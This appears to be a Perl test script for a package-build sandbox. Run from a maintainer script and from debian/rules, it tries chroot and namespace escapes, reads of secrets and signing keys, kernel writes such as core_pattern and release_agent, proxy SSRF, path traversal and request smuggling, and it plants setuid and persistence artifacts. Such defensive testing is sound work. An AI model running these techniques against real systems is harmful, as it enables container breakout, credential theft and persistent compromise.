# Attacks from inside of a build: as root, from the maintainer script of a build dependency, and as a user, from debian/rules. Each
# prints "attack NAME: OPEN" or "attack NAME: shut". The story runs the same outside, where all that can be tried there has to be
# open, so that a shut door is the sandbox's doing.
#
#   host    it reaches what is the host's: it has to be shut everywhere
#   inside  the same, but there is nothing of the kind outside, where it is not tried
#   kernel  it reaches the kernel: it has to be shut where that is the host's, and not in a virtual machine
#
# The story puts %at in front: what there is outside, and whether this is `outside`, the `maintainer` script or `rules`.
use strict;
use warnings;
use IO::Socket::INET;
use IO::Socket::UNIX;
use Errno;
use Fcntl qw(O_RDWR O_WRONLY O_CREAT O_NONBLOCK);
use POSIX ();
use Socket qw(getaddrinfo pack_sockaddr_un SOCK_STREAM AF_UNIX);

$| = 1;
my $root = $> == 0;

sub attack {
    my ($kind, $name, $sentence, $way) = @_;
    return if $at{where} eq 'outside' && $kind ne 'host';
    my $open = eval {
        local $SIG{ALRM} = sub { die "late\n" };
        alarm 60;
        my $done = $way->();
        alarm 0;
        $done;
    };
    alarm 0;
    $kind = $kind eq 'kernel' ? ' (kernel)' : '';
    print "attack $name$kind: ", ($open ? 'OPEN' : 'shut'), "\n";
}

sub slurp { sysopen(my $file, $_[0], O_NONBLOCK) or return ''; sysread($file, my $text, 1 << 20); return $text // '' }
sub writes { sysopen(my $file, $_[0], O_WRONLY | O_NONBLOCK | ($_[1] // 0)) }
sub tcp { IO::Socket::INET->new(PeerAddr => $_[0], PeerPort => $_[1], Timeout => 5) }
sub quietly { open(my $out, '>&', \*STDERR); open(STDERR, '>', '/dev/null'); my $status = system(@_); open(STDERR, '>&', $out); $status == 0 }

# Roots that can be seen: this one, those of all processes, and whatever is found by what comes later.
my @roots = ('', map { "$_/root" } glob '/proc/[0-9]*');
sub anywhere { my ($path) = @_; grep { slurp("$_$path") =~ /\S/ } @roots }

# --- files

attack('host', 'file', 'reads a file of the host that all may read', sub { anywhere($at{file}) });
attack('host', 'file-in-memory', 'reads a file in the host\'s /dev/shm', sub { anywhere($at{shm}) });
attack('host', 'other-build', 'reads what another build is working on', sub { anywhere($at{other}) });
attack('host', 'service-secret', 'reads the service\'s configuration', sub { anywhere($at{secret}) });
attack('host', 'signing-key', 'reads the archive\'s signing key', sub { anywhere('/etc/invirtibuilder/archive-key.asc') });
attack('host', 'record', 'reads the service\'s database', sub { anywhere('/var/lib/invirtibuilder/invirtibuilder.db') });
attack('host', 'pool', 'reads a package of another pocket as a file of the pool', sub { anywhere("/srv/apt/$at{deb}") || anywhere("/archive/$at{deb}") });
attack('inside', 'double-chroot', 'leaves its root by a chroot within it, and reads on there', sub {
    my $pid = open(my $child, '-|') // die;
    if (!$pid) {
        mkdir "/tmp/leave-$$";
        chroot "/tmp/leave-$$" or exit 0;
        chdir '..' for 1 .. 100;
        chroot '.';
        print "$_\n" for grep { slurp($_) =~ /\S/ } $at{file}, $at{other}, $at{secret};
        # What is shared read-only is not to become writable.
        for my $dir ('/usr', '/chroot', '/input', '/archive', '/') {
            quietly('mount', '-o', 'remount,bind,rw', $dir);
            print "$dir\n" if -d "$dir/share/doc" && $dir eq '/usr' && -e '/usr/bin/sbuild' && writes("$dir/planted", O_CREAT);
        }
        exit 0;
    }
    return join('', <$child>) =~ /\S/;
});
attack('inside', 'namespace-of-1', 'enters the mount namespace of process 1 and reads there', sub {
    for my $pid (1, map { m{(\d+)} } glob '/proc/[0-9]*') {
        my $said = qx(nsenter --target $pid --mount -- cat $at{file} $at{other} $at{secret} 2>/dev/null);
        return 1 if $said =~ /\S/;
    }
    return 0;
});
attack('inside', 'bind-of-another-root', 'binds the root of another process over a directory of its own', sub {
    mkdir "/tmp/bind-$$";
    for my $from (grep { length } @roots) {
        quietly('mount', '--rbind', $from, "/tmp/bind-$$") or next;
        my $seen = slurp("/tmp/bind-$$" . $at{file}) . slurp("/tmp/bind-$$" . $at{other});
        quietly('umount', '-l', "/tmp/bind-$$");
        return 1 if $seen =~ /\S/;
    }
    return 0;
});
attack('inside', 'chroot-that-is-shared', 'writes to the chroot that all builds start from', sub {
    my @lower = map { split /:/ } slurp('/proc/self/mountinfo') =~ /lowerdir=([^, ]+)/g;
    grep { my $root = $_; grep { writes("$root$_") || writes("$root$_/etc/planted", O_CREAT) } @lower, '/chroot', '/chroot.tar' } grep { length } @roots;
});
attack('inside', 'results', 'puts a package among the results of the build', sub {
    grep { my $root = $_; grep { -d "$root/$_" && writes("$root/$_/planted", O_CREAT) } qw(output result) } @roots;
});
attack('inside', 'inputs', 'changes the source package that is to be built', sub {
    grep { my $root = $_; grep { writes($_) } glob "$root/input/*" } @roots;
});
attack('inside', 'lock-of-a-slot', 'writes where the service keeps which ids are in use', sub {
    grep { writes("$_/var/lib/invirtibuilder/slots/0") } @roots;
});
attack('host', 'inherited-descriptor', 'reads a file that whoever started the daemon had open', sub {
    grep { (readlink($_) // '') =~ /^\Q$at{file}\E/ && slurp($_) =~ /\S/ } glob '/proc/[0-9]*/fd/*';
});

# --- processes

attack('host', 'processes', 'sees processes of the host', sub { grep { slurp($_) =~ /krb5kdc|remctld/ } glob '/proc/[0-9]*/cmdline' });
attack('host', 'environment', 'reads the environment of the daemon', sub { grep { slurp($_) =~ /\Q$at{variable}\E/ } glob '/proc/[0-9]*/environ' });
attack('host', 'signals', 'finds a process of the host by its number, to signal it', sub {
    kill(0, $at{pid}) && slurp("/proc/$at{pid}/cmdline") =~ /sleep/;
});
attack('inside', 'ptrace', 'traces a process that belongs to another user namespace than its own', sub {
    my $own = readlink('/proc/self/ns/user') // '';
    for my $pid (map { m{(\d+)} } glob '/proc/[0-9]*') {
        my $other = readlink("/proc/$pid/ns/user") // 'unknown';
        next if $other eq $own || $pid == $$;
        return 1 if syscall(101, 0x4206, $pid + 0, 0, 0) == 0;
    }
    return 0;
});
attack('host', 'privileges', 'gains privileges by a program that is setuid', sub { slurp('/proc/self/status') !~ /^NoNewPrivs:\s*1/m });
attack('inside', 'setuid', 'becomes root by a program that a maintainer script has made setuid', sub {
    return 0 if $root;
    return qx(/usr/bin/planted-setuid -u 2>/dev/null) =~ /^0$/;
});
attack('host', 'keyring', 'finds a key in a session keyring that came down to it', sub {
    my ($type, $key) = ('user', $at{key});
    syscall(249, $type, $key, 0, 0) > 0;
});
attack('host', 'shared-memory', 'attaches to shared memory of the host', sub { defined shmget($at{shmkey}, 0, 0) });
attack('inside', 'terminal', 'types into the terminal of whoever started the daemon', sub { sysopen(my $tty, '/dev/tty', O_RDWR) });

# --- the kernel

attack('host', 'sysctl', 'writes a setting of the kernel', sub { grep { writes("/proc/sys/$_") } qw(kernel/panic vm/swappiness fs/protected_symlinks) });
attack('kernel', 'core-pattern', 'has the kernel run a program of its own when something crashes', sub {
    grep { writes($_) } qw(/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /sys/kernel/uevent_helper /proc/sysrq-trigger);
});
attack('kernel', 'device', 'makes a device for the host\'s disk and for its memory', sub {
    for my $device ('b 254 0', 'b 8 0', 'c 1 1', 'b 7 0') {
        unlink '/tmp/device';
        return 1 if quietly("mknod /tmp/device $device") && sysopen(my $file, '/tmp/device', O_NONBLOCK);
    }
    return 0;
});
attack('kernel', 'module', 'removes a module of the kernel', sub {
    my $name = 'no_such_module';
    syscall(176, $name, 2048) == 0 || !($!{EPERM} || $!{ENOSYS});
});
attack('kernel', 'file-systems', 'mounts what shows the kernel from inside', sub {
    mkdir "/tmp/fs-$$";
    for my $kind (qw(debugfs tracefs securityfs configfs bpf efivarfs pstore)) {
        return 1 if quietly('mount', '-t', $kind, 'x', "/tmp/fs-$$") && (quietly('umount', "/tmp/fs-$$") || 1) && $kind ne 'bpf';
    }
    return 0;
});
attack('kernel', 'cgroups', 'leaves its control groups, or has a program of its own run when one is empty', sub {
    mkdir "/tmp/groups-$$";
    for my $how ('-t cgroup -o memory', '-t cgroup -o pids', '-t cgroup -o rdma', '-t cgroup2') {
        quietly("mount $how x /tmp/groups-$$") or next;
        my @written = grep { writes("/tmp/groups-$$/$_") }
            qw(release_agent memory.limit_in_bytes memory.max pids.max cgroup.kill cgroup.subtree_control);
        quietly('umount', '-l', "/tmp/groups-$$");
        return 1 if @written;
    }
    return 0;
});
attack('kernel', 'hidden-proc', 'uncovers what is hidden in /proc by mounting another', sub {
    mkdir "/tmp/proc-$$";
    quietly('mount', '-t', 'proc', 'proc', "/tmp/proc-$$") or return 0;
    my $open = grep { writes("/tmp/proc-$$/$_") } qw(sys/kernel/panic sysrq-trigger sys/kernel/core_pattern);
    quietly('umount', '-l', "/tmp/proc-$$");
    return $open;
});

# --- the network

attack('host', 'loopback', 'connects to a service on the host\'s loopback', sub { tcp('127.0.0.1', $at{port}) });
attack('host', 'abstract-socket', 'connects to an abstract Unix socket of the host', sub {
    socket(my $to, AF_UNIX, SOCK_STREAM, 0) or return 0;
    connect($to, pack_sockaddr_un("\0$at{abstract}"));
});
attack('host', 'socket', 'connects to a Unix socket in the host\'s /run', sub {
    for my $root (@roots) {
        socket(my $to, AF_UNIX, SOCK_STREAM, 0) or return 0;
        return 1 if connect($to, pack_sockaddr_un("$root$at{socket}"));
    }
    return 0;
});
attack('host', 'elsewhere', 'connects to another machine', sub { tcp($at{address}, 80) });
attack('host', 'names', 'asks for the address of another machine, and so can tell it something', sub {
    my ($error, @found) = getaddrinfo($at{host}, 'http');
    !$error && @found;
});
attack('inside', 'datagrams', 'sends a datagram to a machine outside', sub {
    my $to = IO::Socket::INET->new(PeerAddr => $at{address}, PeerPort => 53, Proto => 'udp') or return 0;
    $to->send('x');
});
attack('inside', 'interfaces', 'sees an interface that leads somewhere', sub { slurp('/proc/net/dev') =~ /^\s*(?!lo:)\w+:/m });

my ($proxy) = qx(apt-config dump Acquire::http::Proxy) =~ m{"http://([^/"]+)};
$proxy //= '127.0.0.1:3142';

# The status of a request to the proxy, which is sent as it stands.
sub raw {
    my ($request) = @_;
    my $to = tcp(split /:/, $proxy) or return 'unreachable';
    print $to $request;
    my @lines = grep { m{^HTTP/1.1} } <$to>;
    return join ' ', map { m{^HTTP/1.1 (\d+)} } @lines;
}

sub proxy { my ($line, $more) = @_; raw("$line HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n" . ($more // '') . "\r\n") || 'nothing' }

my $mirror = "http://$at{host}/debian";
for my $method (qw(POST PUT DELETE PATCH OPTIONS PROPFIND)) {
    attack('inside', "proxy-\L$method", "sends data out by the proxy with $method", sub { proxy("$method $mirror/dists/$at{distro}/InRelease") =~ /^[23]/ });
}
for my $to ("127.0.0.1:$at{port}", "$at{host}:80", "$at{host}:443") {
    attack('inside', "proxy-tunnel-$to", 'has the proxy connect it to a service', sub { proxy("CONNECT $to") =~ /^[23]/ });
}
for my $url ("http://127.0.0.1:$at{port}/debian/x", "http://localhost/debian/x", "http://$at{host}:22/debian/x", "http://169.254.169.254/latest",
    "http://user\@$at{host}/debian/x", "https://$at{host}/debian/x", 'file:///etc/passwd', '/etc/passwd', 'ftp://localhost/x') {
    attack('inside', "proxy-to-$url", 'has the proxy fetch from elsewhere', sub { proxy("GET $url") =~ /^[23]/ });
}
for my $path ('../README', 'x/../../README', '%2e%2e/README', '..%2fREADME', '%2E./README', 'dists/./../../README', "dists/$at{distro}/InRelease?x", '', "x\\..\\y") {
    attack('inside', "proxy-path-$path", 'climbs out of the mirror\'s directory', sub { proxy("GET $mirror/$path") =~ /^[23]/ });
}
for my $path ("dists/$at{suite}/InRelease", "dists/.generations/$at{suite}/1/InRelease", "dists/stable/../$at{suite}/InRelease", $at{deb}, "pool/../$at{deb}", 'archive-key.asc', '../../etc/passwd') {
    attack('inside', "archive-$path", 'fetches what a pocket has that this build may not use', sub { proxy("GET http://archive.invalid/$path") =~ /^[23]/ });
}
attack('inside', 'proxy-smuggling', 'hides a second request in the first', sub {
    raw("GET $mirror/../x HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST http://127.0.0.1:$at{port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n") =~ /[23]\d\d/;
});
attack('inside', 'proxy-header', 'names another host in a header', sub {
    proxy("GET /debian/dists/$at{distro}/InRelease", "Host: 127.0.0.1:$at{port}\r\nX-Forwarded-Host: 127.0.0.1:$at{port}\r\n") =~ /^[23]/;
});
# The way that apt goes: open for maintainer scripts, and for nobody later.
print 'mirror: ', proxy("GET $mirror/dists/$at{distro}/InRelease"), "\n" if $at{where} ne 'outside';

# --- what is left behind for the next build: it is its own, and has to end with it

if ($at{where} eq 'maintainer') {
    for my $path (qw(/usr/share/planted /etc/ld.so.preload.planted /etc/apt/apt.conf.d/00planted /var/cache/apt/archives/planted_1_all.deb)) {
        sysopen(my $file, $path, O_WRONLY | O_CREAT);
    }
    system('sh', '-c', 'echo planted >>/usr/share/common-licenses/GPL-2; cp /usr/bin/id /usr/bin/planted-setuid && chmod 4755 /usr/bin/planted-setuid;
        for deb in /var/cache/apt/archives/*.deb /var/lib/apt/lists/*Packages*; do echo planted >>"$deb"; done 2>/dev/null; hostname planted 2>/dev/null');
    # In memory, on the network, and in a session of its own.
    if (!fork) {
        POSIX::setsid();
        $0 = 'planted-637';
        $SIG{$_} = 'IGNORE' for qw(TERM HUP INT PIPE);
        close $_ for \*STDIN, \*STDOUT, \*STDERR;
        my $listen = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 6370, Listen => 1);
        sleep 3600;
        POSIX::_exit(0);
    }
}
print "attacks done\n";
